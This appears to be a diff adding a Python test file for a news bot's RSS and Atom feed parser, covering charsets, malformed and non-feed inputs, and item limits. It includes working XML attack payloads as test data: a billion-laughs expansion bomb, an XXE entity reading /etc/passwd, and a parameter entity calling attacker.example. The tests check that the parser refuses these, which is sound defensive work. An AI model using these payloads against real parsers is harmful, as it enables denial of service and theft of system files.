@@ -1,0 +1,176 @@
+"""Feed parsing: real feeds, charsets, safety checks and the errors for what is not a usable feed."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from bot.news.parse import (
+    MalformedFeedError,
+    NotAFeedError,
+    TooManyItemsError,
+    UnsafeFeedError,
+    decode_body,
+    parse_feed,
+)
+from tests.news.feeds import Item, rss
+
+DATA = Path(__file__).parent / "data"
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<rss version="2.0"><channel><title>&lol9;</title></channel></rss>"""
+
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><link>http://a.example/1</link></item></channel></rss>"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd" [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>
+<rss version="2.0"><channel><title>t</title></channel></rss>"""
+
+RSS_091 = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
+<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
+<rss version="0.91"><channel><title>Old &amp; proud&nbsp;feed</title><link>http://old.example/</link>
+<item><title>Caf\xe9 &eacute;lections</title><link>http://old.example/1</link>
+<description>Tom & Jerry</description></item>
+</channel></rss>"""
+
+RSS_10 = b"""<?xml version="1.0" encoding="utf-8"?>
+<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
+  xmlns:dc="http://purl.org/dc/elements/1.1/">
+ <channel rdf:about="http://dw.example/"><title>DW</title><link>http://dw.example/</link><description>d</description>
+  <items><rdf:Seq><rdf:li rdf:resource="http://dw.example/a"/></rdf:Seq></items></channel>
+ <item rdf:about="http://dw.example/a"><title>Summit ends</title><link>http://dw.example/a</link>
+  <description>Leaders agreed.</description><dc:date>2026-03-01T10:00:00Z</dc:date></item>
+</rdf:RDF>"""
+
+
+def test_real_rss_feed_parses():
+    """The Guardian's RSS 2.0: all items, with GUID, link, title, teaser and a UTC date."""
+    feed = parse_feed((DATA / "guardian.rss").read_bytes(), url="https://www.theguardian.com/us/rss")
+    assert (feed.title, feed.language, len(feed.items)) == ("The Guardian", "en", 55)
+    first = feed.items[0]
+    assert first.title == "Trump State of the Union address promised unity but emphasized discord"
+    assert first.link == first.guid
+    assert "new American moment" in first.summary_html
+    assert first.published is not None and first.published[:5] == (2018, 1, 31, 7, 26)
+
+
+def test_real_atom_feed_parses():
+    """heise's Atom feed: content and summary both come through, dates converted to UTC."""
+    feed = parse_feed((DATA / "heise.atom").read_bytes(), url="http://www.heise.de/developer/rss/news-atom.xml")
+    assert len(feed.items) == 15
+    first = feed.items[0]
+    assert first.guid == "http://heise.de/-3088438"
+    assert "WildFly" in first.content_html
+    assert first.published is not None and first.published[:5] == (2016, 2, 1, 16, 22)  # 17:22 +01:00
+
+
+def test_feed_without_charset_declaration_is_decoded():
+    """UOL's feed is Latin-1 with no declaration at all: Portuguese comes out right."""
+    feed = parse_feed((DATA / "uolNoticias.rss").read_bytes(), url="http://rss.uol.com.br/feed/noticias.xml")
+    assert feed.items[0].title == "Ibope: Bolsonaro perde de Haddad, Ciro e Alckmin em simulações de 2º turno"
+
+
+def test_wrong_declared_charset_is_overridden():
+    """A feed that says UTF-8 in its declaration and its header but is Latin-1 still decodes."""
+    body = rss([Item("Négociations à Genève", "http://a.example/1")], encoding="latin-1").replace(
+        b'encoding="latin-1"', b'encoding="utf-8"'
+    )
+    feed = parse_feed(body, url="http://a.example/feed", http_charset="utf-8")
+    assert feed.items[0].title == "Négociations à Genève"
+
+
+def test_utf8_wins_over_a_wrong_latin1_header():
+    """A UTF-8 body served as ISO-8859-1 is not turned into mojibake."""
+    body = rss([Item("Zürich talks", "http://a.example/1")], declaration=False)
+    feed = parse_feed(body, url="http://a.example/feed", http_charset="iso-8859-1")
+    assert feed.items[0].title == "Zürich talks"
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig"])
+def test_byte_order_marks_are_honoured(encoding: str):
+    """UTF-16 and UTF-8 with a BOM decode correctly."""
+    body = rss([Item("Kyiv – update", "http://a.example/1")], encoding="utf-8").decode().encode(encoding)
+    assert decode_body(body).lstrip("\ufeff").startswith("<?xml")
+    assert parse_feed(body, url="http://a.example/feed").items[0].title == "Kyiv – update"
+
+
+def test_rss_091_with_external_dtd_and_html_entities():
+    """RSS 0.91's external DTD reference is dropped (never loaded); &nbsp; and a bare & are repaired."""
+    feed = parse_feed(RSS_091, url="http://old.example/rss")
+    assert feed.title == "Old & proud feed"
+    assert feed.items[0].title == "Café élections"
+    assert feed.items[0].summary_html == "Tom & Jerry"
+
+
+def test_rss_10_rdf_parses():
+    """RSS 1.0 (RDF) items are found."""
+    feed = parse_feed(RSS_10, url="http://dw.example/rss")
+    assert [(item.title, item.link) for item in feed.items] == [("Summit ends", "http://dw.example/a")]
+
+
+@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["laughs", "xxe", "param"])
+def test_entity_declarations_are_refused(body: bytes):
+    """Entity expansion and external entities are refused before any parser sees them."""
+    with pytest.raises(UnsafeFeedError, match="refused"):
+        parse_feed(body, url="http://evil.example/feed")
+
+
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        (b"", "empty"),
+        (b"   \n", "empty"),
+        (b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>", "HTML page"),
+        (b'{"items": []}', "no XML element"),
+        (b"<catalog><book>1</book></catalog>", "neither RSS nor Atom"),
+    ],
+)
+def test_non_feeds_are_refused(body: bytes, message: str):
+    """Empty bodies, HTML pages, JSON and other XML are not feeds."""
+    with pytest.raises(NotAFeedError, match=message):
+        parse_feed(body, url="http://a.example/feed")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>a</titl></channel></rss>',
+        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>cut off',
+        b'<rss version="2.0"><channel><title>t</title></channel></rss><rss>',
+    ],
+)
+def test_malformed_xml_is_an_error(body: bytes):
+    """Mismatched tags, truncation and junk after the root are errors, not guesses."""
+    with pytest.raises(MalformedFeedError, match="malformed XML"):
+        parse_feed(body, url="http://a.example/feed")
+
+
+def test_too_many_items_are_refused_before_parsing():
+    """A feed of 10,000 items is refused by counting, without parsing it."""
+    body = rss([Item(f"Item {n}", f"http://a.example/{n}", guid=str(n)) for n in range(10_000)])
+    with pytest.raises(TooManyItemsError, match="10000 items"):
+        parse_feed(body, url="http://a.example/feed", max_items=1000)
+
+
+def test_duplicate_guids_are_kept_for_dedup_to_handle():
+    """The parser reports items as they are; deduplication decides what repeats mean."""
+    body = rss([Item("One", "http://a.example/1", guid="same"), Item("Two", "http://a.example/1", guid="same")])
+    assert [item.guid for item in parse_feed(body, url="http://a.example/feed").items] == ["same", "same"]
+
+
+def test_permalink_guid_serves_as_link():
+    """An item with no <link> but a URL GUID gets the GUID as its link."""
+    body = (
+        b'<rss version="2.0"><channel><title>t</title><item><title>x</title>'
+        b"<guid>https://a.example/story</guid></item></channel></rss>"
+    )
+    assert parse_feed(body, url="http://a.example/feed").items[0].link == "https://a.example/story"
